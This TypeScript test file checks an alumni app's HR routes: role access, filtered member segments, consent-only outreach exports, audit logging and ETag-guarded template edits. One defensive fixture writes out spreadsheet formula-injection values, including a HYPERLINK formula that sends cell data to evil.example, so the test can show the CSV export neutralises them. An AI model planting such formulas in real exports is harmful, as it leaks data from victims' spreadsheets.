import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { TOKEN_ROLES, type TokenRole, mintToken } from '../../server/auth.js';
import type { AlumnusRecord } from '../../server/data/alumni.js';
import { EXPORT_COLUMNS, csvCell, csvLine } from '../../server/domain/hr-export.js';
import { INTEREST_IDS, type InterestId } from '../../server/domain/interests.js';
import { canonicalRomaji, isLatinWord, kanaCanonicalRomaji } from '../../server/domain/romaji.js';
import { normalizeSearchText, queryWords } from '../../server/domain/search-text.js';
import { VISIBILITY_FIELDS, VISIBILITY_LEVELS, type Visibility, type VisibilityField } from '../../server/domain/visibility.js';
import { DEPARTMENTS } from '../../server/seed/catalog.js';
import { addMonths, INTENT_WINDOWS, intentWindow } from '../../server/domain/hr-members.js';
import { MEMBER_STATUSES, type MemberStatus } from '../../server/domain/membership.js';
import { syncDirectoryEntries } from '../../server/data/directory.js';
import { hrPlan } from '../../server/data/hr.js';
import { TEST_BACKEND } from './backend.js';
import { alumnus, directoryFixture } from './directory-fixtures.js';
import { createApp } from '../../server/app.js';
import { TEST_SECRET, type TestServer, startTestServer } from './harness.js';

/*
 * The HR console's routes: HR only; segments equal to a model of the filters over every field
 * (hidden ones included); outreach exports only people who agreed to be contacted; CSV cells a
 * spreadsheet cannot run; the record view and exports audited; template edits reach only
 * checklists generated afterwards.
 */

const tokenCache = new Map<TokenRole, Promise<string>>();
async function headers(role: TokenRole | 'public', extra: Record<string, string> = {}): Promise<Record<string, string>> {
  if (role === 'public') return { ...extra };
  let token = tokenCache.get(role);
  if (!token) tokenCache.set(role, (token = mintToken(TEST_SECRET, { role, sub: `viewer-${role}`, ttl: '1h' })));
  return { Authorization: `Bearer ${await token}`, ...extra };
}

function path(base: string, params: Record<string, string | number | boolean | readonly string[] | undefined>): string {
  const search = new URLSearchParams();
  for (const [key, value] of Object.entries(params)) {
    if (value === undefined) continue;
    for (const item of Array.isArray(value) ? value : [value]) search.append(key, String(item));
  }
  const query = search.toString();
  return query ? `${base}?${query}` : base;
}

/** RFC 4180 parsing, enough for what the export writes (every cell quoted, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  assert.equal(cell, '', 'the file ends with a line break');
  assert.equal(row.length, 0);
  return rows;
}

describe('HR routes × roles', () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer();
  });
  after(() => server.close());

  const TEMPLATE_BODY = JSON.stringify({
    items: [{ category: 'training', owner: 'hr', dueOffsetDays: 1, required: true, title: { en: 'Orientation', ja: 'オリエンテーション' }, description: null }],
  });

  const routes = (memberId: string) => [
    { method: 'GET', url: '/api/v1/hr/overview' },
    { method: 'GET', url: '/api/v1/hr/members' },
    { method: 'GET', url: `/api/v1/hr/members/${memberId}` },
    { method: 'GET', url: '/api/v1/hr/members/export.csv?purpose=records' },
    { method: 'GET', url: '/api/v1/hr/checklist-template' },
    { method: 'PUT', url: '/api/v1/hr/checklist-template', body: TEMPLATE_BODY, ifMatch: '*' },
  ];

  it('answers HR, refuses every other role with 403 and the public with 401 (problem+json)', async () => {
    const memberId = (await server.sql.value<string>('SELECT id FROM alumni ORDER BY id LIMIT 1'))!;
    for (const route of routes(memberId)) {
      for (const role of ['public', ...TOKEN_ROLES] as const) {
        const init: RequestInit = {
          method: route.method,
          headers: await headers(role, {
            ...(route.body ? { 'Content-Type': 'application/json' } : {}),
            ...(route.ifMatch ? { 'If-Match': route.ifMatch } : {}),
          }),
          ...(route.body && { body: route.body }),
        };
        const response = await server.app.request(route.url, init);
        const expected = role === 'public' ? 401 : role === 'hr' ? 200 : 403;
        assert.equal(response.status, expected, `${role} ${route.method} ${route.url}`);
        if (expected !== 200) assert.match(response.headers.get('content-type') ?? '', /application\/problem\+json/);
        await response.arrayBuffer();
      }
    }
  });

  it('overview: counts from the data, 12 months of signups, returners in progress, drafts', async () => {
    const response = await server.app.request('/api/v1/hr/overview', { headers: await headers('hr') });
    const body = (await response.json()) as any;
    assert.equal(body.members.total, await server.sql.value<number>('SELECT COUNT(*) FROM alumni').then(Number));
    assert.equal(body.members.listed, await server.sql.value<number>('SELECT COUNT(*) FROM alumni WHERE listed = TRUE').then(Number));
    assert.equal(
      body.members.contactable,
      await server.sql.value<number>('SELECT COUNT(*) FROM alumni WHERE contact_consent = TRUE').then(Number),
    );
    assert.equal(body.members.active + body.members.pending + body.members.awaitingApproval + body.members.declined, body.members.total);
    assert.equal(
      body.members.pending,
      Number(await server.sql.value("SELECT COUNT(*) FROM alumni WHERE status = 'pending'")),
    );
    assert.equal(body.approval, false, 'the approval setting, off by default');
    assert.equal(
      Object.values(body.returnIntent as Record<string, number>).reduce((a, b) => a + b, 0),
      body.members.total,
      'every member is in exactly one intent window',
    );
    assert.equal(body.signupsByMonth.length, 12);
    const now = new Date();
    const thisMonth = `${now.getUTCFullYear()}-${String(now.getUTCMonth() + 1).padStart(2, '0')}`;
    assert.equal(body.signupsByMonth.at(-1).month, thisMonth);
    const first = body.signupsByMonth[0].month;
    const signups = Number(await server.sql.value('SELECT COUNT(*) FROM alumni WHERE created_at >= ?', `${first}-01`));
    assert.equal(body.signupsByMonth.reduce((sum: number, m: any) => sum + m.count, 0), signups);
    assert.equal(
      body.announcementsAwaitingApproval,
      Number(await server.sql.value("SELECT COUNT(*) FROM announcements WHERE status = 'draft'")),
    );
    for (const returner of body.returnersInProgress) assert.ok(returner.total === 0 || returner.done < returner.total);
    assert.ok(body.returnersInProgress.length > 0, 'the demo has returners with open items');
  });

  it('refuses a cursor of another sort', async () => {
    const first = (await (await server.app.request('/api/v1/hr/members?limit=2&sort=signedUp', { headers: await headers('hr') })).json()) as any;
    assert.ok(first.nextCursor);
    const other = await server.app.request(`/api/v1/hr/members?limit=2&sort=name&cursor=${first.nextCursor}`, {
      headers: await headers('hr'),
    });
    assert.equal(other.status, 400);
  });
});

// ---------------------------------------------------------------------------------------------
// Segments: the property

const FAMILY = [['佐藤', 'さとう'], ['鈴木', 'すずき'], ['Sato', null], ['Suzuki', null]] as const;
const GIVEN = [['花子', 'はなこ'], ['一郎', 'いちろう'], ['Anna', null]] as const;
const COMPANIES = ['北斗データ', 'Aoba Solutions', 'さとうフーズ', null];
const LOCATIONS = ['東京', 'Osaka', null];
const DEPARTMENT_IDS = ['sales', 'engineering', 'hr'];
const QUERIES = ['佐藤', 'サトウ', 'すず', 'ｓａｔｏ', 'satoh', 'data', 'aoba', 'sales', '営業', 'tokyo', '東京', 'osaka', 'example', 'mail', 'role', 'はなこ', 'hanako', 'ichiro', 'フーズ', 'a'];

const level = fc.constantFrom(...VISIBILITY_LEVELS);
const memberArbitrary = fc.record({
  family: fc.constantFrom(...FAMILY),
  given: fc.constantFrom(...GIVEN),
  department: fc.option(fc.constantFrom(...DEPARTMENT_IDS), { nil: null }),
  company: fc.constantFrom(...COMPANIES),
  location: fc.constantFrom(...LOCATIONS),
  leftYear: fc.integer({ min: 2010, max: 2024 }),
  status: fc.constantFrom(...MEMBER_STATUSES),
  intent: fc.constantFrom(null, 'open-now', 'not-now', 'open-from'),
  intentFrom: fc.integer({ min: -3, max: 12 }),
  interests: fc.subarray([...INTEREST_IDS]),
  listed: fc.boolean(),
  contact: fc.boolean(),
  signedUpDay: fc.integer({ min: 1, max: 28 }),
  visibility: fc.record(Object.fromEntries(VISIBILITY_FIELDS.map((f) => [f, level])) as Record<VisibilityField, typeof level>),
});
const sometimes = <T>(arbitrary: fc.Arbitrary<T>) => fc.oneof({ arbitrary: fc.constant(undefined), weight: 3 }, { arbitrary, weight: 1 });
const segmentArbitrary = fc.record({
  q: sometimes(fc.array(fc.constantFrom(...QUERIES), { minLength: 1, maxLength: 2 })),
  department: sometimes(fc.subarray(DEPARTMENT_IDS, { minLength: 1 })),
  interest: sometimes(fc.subarray([...INTEREST_IDS], { minLength: 1, maxLength: 2 })),
  leftFrom: sometimes(fc.integer({ min: 2009, max: 2025 })),
  leftTo: sometimes(fc.integer({ min: 2009, max: 2025 })),
  contactable: sometimes(fc.boolean()),
  listed: sometimes(fc.boolean()),
  status: sometimes(fc.subarray([...MEMBER_STATUSES], { minLength: 1 })),
  intent: sometimes(fc.subarray([...INTENT_WINDOWS], { minLength: 1, maxLength: 2 })),
  sort: fc.constantFrom('name', 'signedUp', 'left'),
  lang: fc.constantFrom('ja', 'en'),
});
type Generated = typeof memberArbitrary extends fc.Arbitrary<infer T> ? T : never;
type Segment = typeof segmentArbitrary extends fc.Arbitrary<infer T> ? T : never;

function toRecord(m: Generated, tag: string): AlumnusRecord {
  return alumnus({
    familyName: m.family[0],
    givenName: m.given[0],
    familyNameKana: m.family[1],
    givenNameKana: m.given[1],
    email: `${tag}@example.com`,
    roleAtLeaving: `Role ${tag}`,
    departmentId: m.department,
    departmentOther: m.department ? null : `営業 ${tag}`,
    currentCompany: m.company,
    currentRole: null,
    location: m.location,
    joined: '2005-04',
    left: `${m.leftYear}-06`,
    interests: m.interests as InterestId[],
    listed: m.listed,
    contactConsent: m.contact,
    createdAt: `2025-03-${String(m.signedUpDay).padStart(2, '0')}T09:00:00.000Z`,
    visibility: m.visibility as Visibility,
  });
}

const MONTH = new Date().toISOString().slice(0, 7);

/** Membership facts the signup record does not carry, set with SQL and re-synced (SQLite). */
interface Extra {
  status: MemberStatus;
  intent: string | null;
  from: string | null;
}

async function applyExtras(fixture: Awaited<ReturnType<typeof directoryFixture>>, people: AlumnusRecord[], generated: Generated[]) {
  await fixture.settled();
  const extras = new Map<string, Extra>();
  for (const [index, person] of people.entries()) {
    const m = generated[index]!;
    const extra =
      TEST_BACKEND === 'sqlite'
        ? { status: m.status, intent: m.intent, from: m.intent === 'open-from' ? addMonths(MONTH, m.intentFrom) : null }
        : { status: 'active' as const, intent: null, from: null };
    extras.set(person.id, extra);
    if (TEST_BACKEND !== 'sqlite') continue;
    // Stored as alumni.status (verified or not) and alumni.approval (HR's decision), as MEMBER_STATUS_SQL reads them.
    const [stored, approval] = extra.status === 'pending' || extra.status === 'active' ? [extra.status, null] : ['active', extra.status];
    await fixture.sql.run(
      'UPDATE alumni SET status = ?, approval = ?, return_intent = ?, return_from = ? WHERE id = ?',
      stored, approval, extra.intent, extra.from, person.id,
    );
  }
  // A write to alumni syncs the indexes in its transaction; this one went around the store.
  if (TEST_BACKEND === 'sqlite') syncDirectoryEntries(fixture.db, people.map((p) => p.id));
  return extras;
}

/** The model: which members a segment holds, from every field (HR sees hidden ones too). */
function expectedIds(people: AlumnusRecord[], s: Segment, extras: Map<string, Extra>): Set<string> {
  const departmentNames = new Map(DEPARTMENTS.map((d) => [d.id, [d.name.en, d.name.ja]]));
  const n = normalizeSearchText;
  const joined = (a: string, b: string) => n(a).replaceAll(' ', '') + n(b).replaceAll(' ', '');
  return new Set(
    people
      .filter((p) => {
        if (s.department && !(p.departmentId && s.department.includes(p.departmentId))) return false;
        if (s.interest && !p.interests.some((i) => s.interest!.includes(i))) return false;
        const year = p.left ? Number(p.left.slice(0, 4)) : null;
        if (s.leftFrom !== undefined && !(year !== null && year >= s.leftFrom)) return false;
        if (s.leftTo !== undefined && !(year !== null && year <= s.leftTo)) return false;
        if (s.contactable !== undefined && p.contactConsent !== s.contactable) return false;
        if (s.listed !== undefined && p.listed !== s.listed) return false;
        const extra = extras.get(p.id)!;
        if (s.status && !s.status.includes(extra.status)) return false;
        if (s.intent && !s.intent.includes(intentWindow(extra.intent, extra.from, MONTH))) return false;
        if (s.q) {
          const names = [p.familyName, p.givenName, joined(p.familyName, p.givenName)];
          if (p.familyNameKana) names.push(p.familyNameKana);
          if (p.givenNameKana) names.push(p.givenNameKana);
          if (p.familyNameKana && p.givenNameKana) names.push(joined(p.familyNameKana, p.givenNameKana));
          const texts = [...names, p.email, p.roleAtLeaving, p.currentCompany, p.currentRole, p.location, p.profileUrl, p.departmentOther];
          if (p.departmentId) texts.push(...departmentNames.get(p.departmentId)!);
          const words = texts.flatMap((text) => (text ? n(text).split(' ') : []));
          const romaji = names
            .flatMap((text) => n(text).split(' '))
            .map((word) => (isLatinWord(word) ? canonicalRomaji(word) : kanaCanonicalRomaji(word)))
            .filter((word): word is string => Boolean(word));
          const matches = (term: string) =>
            words.some((word) => word.includes(term)) || (isLatinWord(term) && romaji.some((word) => word.includes(canonicalRomaji(term))));
          if (!queryWords(s.q.join(' ')).every(matches)) return false;
        }
        return true;
      })
      .map((p) => p.id),
  );
}

describe('HR segments', () => {
  it('return exactly the members a model of the filters predicts, hidden fields included, in the sort order', async () => {
    let run = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(memberArbitrary, { minLength: 1, maxLength: 14 }), fc.array(segmentArbitrary, { minLength: 1, maxLength: 4 }), async (generated, segments) => {
        run++;
        // Every SQLite plan: matches looked up and sorted; the walk along the order index testing
        // each entry's words (dense matches); the walk keeping entries among the matches (sparse).
        Object.assign(hrPlan, [{ fewMatches: 4000, sample: 64, denseSpread: 0 }, { fewMatches: 0, sample: 1, denseSpread: Infinity }, { fewMatches: 0, sample: 1, denseSpread: 0 }][run % 3]);
        const fixture = await directoryFixture();
        try {
          const people = fixture.add(...generated.map((m, index) => toRecord(m, `r${run}m${index}x`)));
          const extras = await applyExtras(fixture, people, generated);
          const byId = new Map(people.map((p) => [p.id, p]));
          for (const segment of segments) {
            const params = { ...segment, q: segment.q?.join(' '), limit: 3 };
            if (segment.leftFrom !== undefined && segment.leftTo !== undefined && segment.leftFrom > segment.leftTo) {
              assert.equal((await fixture.get('hr', path('/api/v1/hr/members', params))).status, 400);
              continue;
            }
            const items: any[] = [];
            let cursor: string | undefined;
            for (let page = 0; page < 100; page++) {
              const { status, body } = await fixture.get('hr', path('/api/v1/hr/members', { ...params, cursor }));
              assert.equal(status, 200, JSON.stringify(body));
              items.push(...body.items);
              if (!body.nextCursor) break;
              cursor = body.nextCursor;
            }
            const got = items.map((item) => item.id);
            assert.equal(new Set(got).size, got.length, 'no member twice');
            assert.deepEqual(new Set(got), expectedIds(people, segment, extras), JSON.stringify(segment));
            // Every stored field, hidden ones marked.
            for (const item of items) {
              const person = byId.get(item.id)!;
              assert.equal(item.email, person.email);
              assert.equal(item.location, person.location);
              assert.equal(item.status, extras.get(item.id)!.status);
              assert.equal(item.returnIntent.intent, extras.get(item.id)!.intent);
              assert.deepEqual(
                item.hiddenFromDirectory,
                VISIBILITY_FIELDS.filter((field) => person.visibility[field] === 'hidden'),
              );
            }
            if (segment.sort === 'signedUp') {
              const keys = got.map((id) => `${byId.get(id)!.createdAt} ${id}`);
              assert.deepEqual(keys, [...keys].sort().reverse());
            }
            if (segment.sort === 'left') {
              const keys = got.map((id) => `${byId.get(id)!.left ?? ''} ${id}`);
              assert.deepEqual(keys, [...keys].sort().reverse());
            }
          }
        } finally {
          await fixture.close();
        }
      }),
      { numRuns: 40 },
    );
  });

  it('outreach exports never contain a member without contact consent (and equal the consenting part of the segment)', async () => {
    let run = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(memberArbitrary, { minLength: 1, maxLength: 12 }), segmentArbitrary, async (generated, segment) => {
        run++;
        const fixture = await directoryFixture();
        try {
          const people = fixture.add(...generated.map((m, index) => toRecord(m, `o${run}m${index}x`)));
          const extras = await applyExtras(fixture, people, generated);
          const { sort: _sort, ...filters } = segment;
          if (segment.leftFrom !== undefined && segment.leftTo !== undefined && segment.leftFrom > segment.leftTo) return;
          const response = await fixture.app.request(
            path('/api/v1/hr/members/export.csv', { ...filters, q: segment.q?.join(' '), purpose: 'outreach' }),
            { headers: await headers('hr') },
          );
          assert.equal(response.status, 200);
          const rows = parseCsv(await response.text()) /* text() drops the BOM */;
          const ids = rows.slice(1).map((row) => row[0]!);
          const consenting = new Set(people.filter((p) => p.contactConsent).map((p) => p.id));
          for (const id of ids) assert.ok(consenting.has(id), `${id} has no contact consent`);
          const expected = [...expectedIds(people, { ...segment, contactable: undefined }, extras)].filter((id) => consenting.has(id));
          assert.deepEqual(new Set(ids), new Set(expected));
        } finally {
          await fixture.close();
        }
      }),
      { numRuns: 30 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Export, detail, audit

describe('HR export and record', () => {
  it('streams a BOM, a header row in the language asked, and cells no spreadsheet runs', async () => {
    const fixture = await directoryFixture();
    try {
      const hostile = fixture.add(
        alumnus({
          familyName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
          givenName: '+1+2',
          currentCompany: '-2+3',
          currentRole: '@SUM(A1:A9)',
          location: 'Line one\r\nline "two", three',
          roleAtLeaving: '\t=1+1',
          departmentOther: null,
        }),
      );
      for (const lang of ['ja', 'en'] as const) {
        const response = await fixture.app.request(`/api/v1/hr/members/export.csv?purpose=records&lang=${lang}`, {
          headers: await headers('hr'),
        });
        assert.equal(response.status, 200);
        assert.match(response.headers.get('content-type')!, /^text\/csv; charset=utf-8/);
        assert.match(response.headers.get('content-disposition')!, /^attachment; filename="okaeri-members-records-/);
        const bytes = new Uint8Array(await response.arrayBuffer());
        assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
        const text = new TextDecoder().decode(bytes.slice(3));
        const rows = parseCsv(text);
        assert.deepEqual(rows[0], EXPORT_COLUMNS.map((column) => column.label[lang]));
        assert.equal(rows.length, 2);
        const row = Object.fromEntries(EXPORT_COLUMNS.map((column, index) => [column.label.en, rows[1]![index]]));
        assert.equal(row['Family name'], `'${hostile[0]!.familyName}`);
        assert.equal(row['Given name'], "'+1+2");
        assert.equal(row['Current company'], "'-2+3");
        assert.equal(row['Current role'], "'@SUM(A1:A9)");
        assert.equal(row['Role at leaving'], "'\t=1+1");
        assert.equal(row.Location, 'Line one\r\nline "two", three', 'quotes, commas and line breaks stay in the cell');
        // No cell of the file starts with a formula character.
        for (const cells of rows) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
      }
    } finally {
      await fixture.close();
    }
  });

  it('audits every export with who, the segment, the purpose and the row count', async () => {
    const fixture = await directoryFixture();
    try {
      fixture.add(
        alumnus({ departmentId: 'sales', contactConsent: true }),
        alumnus({ departmentId: 'sales', contactConsent: false }),
        alumnus({ departmentId: 'engineering', contactConsent: true }),
      );
      await fixture.settled();
      // Only this export's rows: a fixture database may carry earlier audit rows on some backends.
      const earlier = (await fixture.store.audit.list({ action: 'hr.members.export' })).length;
      const response = await fixture.app.request('/api/v1/hr/members/export.csv?purpose=outreach&department=sales', {
        headers: await headers('hr'),
      });
      const rows = parseCsv(await response.text()) /* text() drops the BOM */;
      assert.equal(rows.length, 2);
      const audit = (await fixture.store.audit.list({ action: 'hr.members.export' })).slice(earlier);
      assert.equal(audit.length, 1);
      assert.equal(audit[0]!.actorSub, 'viewer-hr');
      assert.equal(audit[0]!.actorRole, 'hr');
      assert.ok(Date.now() - Date.parse(audit[0]!.at) < 60_000);
      assert.deepEqual(audit[0]!.detail, { purpose: 'outreach', lang: 'ja', segment: { department: ['sales'] }, rows: 1, complete: true });
    } finally {
      await fixture.close();
    }
  });

  it('writes every cell as the rules say, on the fast path too (a model with the regular expression)', () => {
    const model = (value: string | number | boolean | null) => {
      if (value === null) return '""';
      const text = String(value);
      return `"${(/^[=+\-@\t\r]/.test(text) ? `'${text}` : text).replaceAll('"', '""')}"`;
    };
    const tricky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'あ', '😀', ' ', 'a');
    const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.string({ unit: tricky }), fc.string({ unit: 'binary' }));
    const cell = fc.oneof(text, fc.constant(null), fc.integer(), fc.boolean());
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        for (const value of cells) assert.equal(csvCell(value), model(value));
        const line = csvLine(cells);
        assert.equal(line, `${cells.map(model).join(',')}\r\n`);
        // Read back, each cell is its value (with the apostrophe where one was needed).
        assert.deepEqual(parseCsv(line)[0], cells.map((value) => (value === null ? '' : /^[=+\-@\t\r]/.test(String(value)) ? `'${value}` : String(value))));
      }),
      { numRuns: 500 },
    );
  });

  it('names every member status in the file, in both languages', async () => {
    const fixture = await directoryFixture();
    try {
      const people = fixture.add(...MEMBER_STATUSES.map((_, index) => alumnus({ familyName: `Status${index}` })));
      await fixture.settled();
      for (const [index, status] of MEMBER_STATUSES.entries()) {
        // Stored as alumni.status (verified or not) and alumni.approval (HR's decision), as MEMBER_STATUS_SQL reads them.
        const [stored, approval] = status === 'pending' || status === 'active' ? [status, null] : ['active', status];
        await fixture.sql.run('UPDATE alumni SET status = ?, approval = ? WHERE id = ?', stored, approval, people[index]!.id);
      }
      const expected = {
        en: ['pending verification', 'awaiting approval', 'active', 'declined'],
        ja: ['メール確認待ち', '承認待ち', '有効', '不承認'],
      };
      for (const lang of ['ja', 'en'] as const) {
        const response = await fixture.app.request(`/api/v1/hr/members/export.csv?purpose=records&lang=${lang}`, { headers: await headers('hr') });
        const rows = parseCsv(await response.text()).slice(1);
        const statusColumn = EXPORT_COLUMNS.findIndex((column) => column.label.en === 'Status');
        const byId = new Map(rows.map((row) => [row[0], row[statusColumn]]));
        assert.deepEqual(
          MEMBER_STATUSES.map((_, index) => byId.get(people[index]!.id)),
          expected[lang],
          `${MEMBER_STATUSES.join(', ')} in ${lang}`,
        );
      }
    } finally {
      await fixture.close();
    }
  });

  it('exports more rows than one batch, in pages the stream pulls one at a time', async () => {
    const fixture = await directoryFixture();
    try {
      fixture.add(...Array.from({ length: 2300 }, () => alumnus()));
      await fixture.settled();
      const response = await fixture.app.request('/api/v1/hr/members/export.csv?purpose=records', { headers: await headers('hr') });
      const rows = parseCsv(await response.text()) /* text() drops the BOM */;
      assert.equal(rows.length, 2301);
      assert.equal(new Set(rows.slice(1).map((row) => row[0])).size, 2300);
    } finally {
      await fixture.close();
    }
  });

  it('shows HR every stored field with hidden ones marked, the consent history and the audit trail, and audits the view', async () => {
    const fixture = await directoryFixture();
    try {
      const [person] = fixture.add(
        alumnus({ location: '札幌', currentCompany: '秘密商事', visibility: { location: 'hidden', currentCompany: 'hidden', email: 'hr' } }),
      );
      const first = await fixture.get('hr', `/api/v1/hr/members/${person!.id}`);
      assert.equal(first.status, 200);
      assert.equal(first.headers.get('cache-control'), 'private, no-store');
      assert.equal(first.body.member.location, '札幌');
      assert.equal(first.body.member.currentCompany, '秘密商事');
      assert.deepEqual(first.body.member.hiddenFromDirectory, ['currentCompany', 'location']);
      assert.equal(first.body.visibility.email, 'hr');
      assert.deepEqual(first.body.consents, [{ policyVersion: '2025-04-01', contact: false, at: person!.createdAt }]);
      assert.deepEqual(first.body.audit.map((row: any) => row.action), ['hr.member.view']);
      const second = await fixture.get('hr', `/api/v1/hr/members/${person!.id}`);
      assert.deepEqual(second.body.audit.map((row: any) => [row.action, row.actorSub]), [
        ['hr.member.view', 'viewer-hr'],
        ['hr.member.view', 'viewer-hr'],
      ]);
      // A hidden value is searchable for HR…
      const hr = await fixture.get('hr', '/api/v1/hr/members?q=札幌');
      assert.deepEqual(hr.body.items.map((item: any) => item.id), [person!.id]);
      // …and still not in the directory, for anyone.
      const directory = await fixture.get('hr', '/api/v1/alumni?q=札幌');
      assert.deepEqual(directory.body.items, []);
      assert.equal((await fixture.get('hr', '/api/v1/hr/members/al_nobody')).status, 404);
    } finally {
      await fixture.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Template

describe('HR checklist template', () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer();
  });
  after(() => server.close());

  async function createReturner(alumniId: string) {
    const response = await server.app.request('/api/v1/returners', {
      method: 'POST',
      headers: await headers('hr', { 'Content-Type': 'application/json' }),
      body: JSON.stringify({ alumniId, returnDate: '2031-04-01', language: 'en' }),
    });
    assert.equal(response.status, 201, await response.clone().text());
    return (await response.json()) as { id: string };
  }

  it('edits apply to checklists generated afterwards only', async () => {
    const [a, b] = await server.sql.rows<{ id: string }>(
      "SELECT id FROM alumni WHERE id NOT IN (SELECT alumni_id FROM returners) AND left_month > '2030-01' ORDER BY id LIMIT 2",
    ).then(async (rows) =>
      rows.length === 2
        ? rows
        : server.sql.rows<{ id: string }>(
            'SELECT id FROM alumni WHERE id NOT IN (SELECT alumni_id FROM returners) AND left_month IS NOT NULL ORDER BY id LIMIT 2',
          ),
    );
    const before = await createReturner(a!.id);
    const beforeTitles = await server.sql.rows<{ title: string }>(
      'SELECT title FROM checklist_items WHERE returner_id = ? ORDER BY sort',
      before.id,
    );

    const get = await server.app.request('/api/v1/hr/checklist-template', { headers: await headers('hr') });
    const current = (await get.json()) as any;
    assert.equal(current.items.length, 12);
    const etag = get.headers.get('etag')!;
    assert.match(etag, /^"[\w-]+"$/);
    const items = [
      { category: 'people', owner: 'manager', dueOffsetDays: 2, required: false, title: { en: 'Coffee with the team', ja: 'チームでコーヒー' }, description: { en: 'Informal.', ja: '気軽に。' } },
      current.items[2],
    ];
    const put = await server.app.request('/api/v1/hr/checklist-template', {
      method: 'PUT',
      headers: await headers('hr', { 'Content-Type': 'application/json', 'If-Match': etag }),
      body: JSON.stringify({ items }),
    });
    assert.equal(put.status, 200);
    assert.deepEqual(((await put.json()) as any).items, items);
    assert.notEqual(put.headers.get('etag'), etag);
    const audit = await server.store.audit.list({ action: 'checklist-template.update' });
    assert.deepEqual(audit.map((row) => row.detail), [{ items: 2 }]);

    const afterReturner = await createReturner(b!.id);
    const newTitles = await server.sql.rows<{ title: string; category_id: string }>(
      "SELECT title, category_id FROM checklist_items WHERE returner_id = ? AND category_id != 'what-changed' ORDER BY sort",
      afterReturner.id,
    );
    assert.deepEqual(newTitles.map((row) => row.title), ['Coffee with the team', current.items[2].title.en]);
    const unchanged = await server.sql.rows<{ title: string }>('SELECT title FROM checklist_items WHERE returner_id = ? ORDER BY sort', before.id);
    assert.deepEqual(unchanged, beforeTitles, 'the earlier checklist keeps its items');
  });

  it('refuses an unknown category, an empty template and extra fields', async () => {
    const put = (body: unknown) =>
      headers('hr', { 'Content-Type': 'application/json', 'If-Match': '*' }).then((h) =>
        server.app.request('/api/v1/hr/checklist-template', { method: 'PUT', headers: h, body: JSON.stringify(body) }),
      );
    const item = { category: 'nope', owner: 'hr', dueOffsetDays: 0, required: true, title: { en: 'A', ja: 'あ' }, description: null };
    const unknown = await put({ items: [item] });
    assert.equal(unknown.status, 400);
    assert.equal(((await unknown.json()) as any).errors['items.0.category'], 'invalid_choice');
    assert.equal((await put({ items: [] })).status, 400);
    assert.equal((await put({ items: [{ ...item, category: 'people', extra: 1 }] })).status, 400);
    assert.equal((await put({ items: [{ ...item, category: 'people', dueOffsetDays: 9999 }] })).status, 400);
  });
});

describe('HR checklist template: concurrent editors (ETag, If-Match)', () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer();
  });
  after(() => server.close());

  const item = (title: string) => ({
    category: 'training', owner: 'hr', dueOffsetDays: 1, required: true, title: { en: title, ja: `${title}（日本語）` }, description: null,
  });
  const read = async () => {
    const response = await server.app.request('/api/v1/hr/checklist-template', { headers: await headers('hr') });
    assert.equal(response.status, 200);
    return { etag: response.headers.get('etag')!, items: ((await response.json()) as any).items };
  };
  const save = async (items: unknown[], ifMatch?: string, app = server.app) =>
    app.request('/api/v1/hr/checklist-template', {
      method: 'PUT',
      headers: await headers('hr', { 'Content-Type': 'application/json', ...(ifMatch === undefined ? {} : { 'If-Match': ifMatch }) }),
      body: JSON.stringify({ items }),
    });

  it('tags the template, needs If-Match to save, and answers a stale save with 412 and the stored template', async () => {
    const first = await read();
    assert.equal((await read()).etag, first.etag, 'the same template, the same tag');

    const without = await save([item('Without a tag')]);
    assert.equal(without.status, 428);
    assert.match(without.headers.get('content-type')!, /^application\/problem\+json/);

    const mine = await save([item('Mine')], first.etag);
    assert.equal(mine.status, 200);
    const saved = mine.headers.get('etag')!;
    assert.notEqual(saved, first.etag);
    assert.equal((await read()).etag, saved, 'GET answers the tag PUT answered');

    // A second editor who read before that save.
    const theirs = await save([item('Theirs')], first.etag);
    assert.equal(theirs.status, 412);
    assert.match(theirs.headers.get('content-type')!, /^application\/problem\+json/);
    assert.equal(theirs.headers.get('etag'), saved);
    const problem = (await theirs.json()) as any;
    assert.equal(problem.status, 412);
    assert.deepEqual(problem.current, { items: [item('Mine')] });
    assert.deepEqual((await read()).items, [item('Mine')], 'the stale save changed nothing');

    // A list of tags, a weak tag (never matches a strong comparison), and *.
    assert.equal((await save([item('Listed')], `"other", ${saved}`)).status, 200);
    const now = (await read()).etag;
    assert.equal((await save([item('Weak')], `W/${now}`)).status, 412);
    assert.equal((await save([item('Anything')], '*')).status, 200);
    assert.deepEqual((await read()).items, [item('Anything')]);
    const audit = await server.store.audit.list({ action: 'checklist-template.update' });
    assert.equal(audit.length, 3, 'only the saves that were applied are audited');
  });

  it('of two saves sent at once with the same If-Match, exactly one is applied (two instances on one database)', async () => {
    // Another instance: its own store (connections) on the same database.
    const other = createApp({ jwtSecret: TEST_SECRET, corsOrigins: [], store: await server.database.openAnother() });
    for (let round = 0; round < 8; round++) {
      const { etag } = await read();
      const responses = await Promise.all([save([item(`A${round}`), item('shared')], etag), save([item(`B${round}`)], etag, other)]);
      const statuses = responses.map((response) => response.status).sort();
      assert.deepEqual(statuses, [200, 412], `round ${round}`);
      const winner = responses.find((response) => response.status === 200)!;
